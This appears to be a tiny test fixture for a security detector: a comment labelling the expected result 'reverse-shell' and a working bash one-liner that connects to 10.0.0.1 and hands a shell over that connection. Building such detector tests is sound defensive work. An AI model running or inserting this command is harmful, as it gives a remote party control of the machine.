# expect: reverse-shell
0<&196;exec 196<>/dev/tcp/10.0.0.1/80; sh <&196 >&196 2>&196
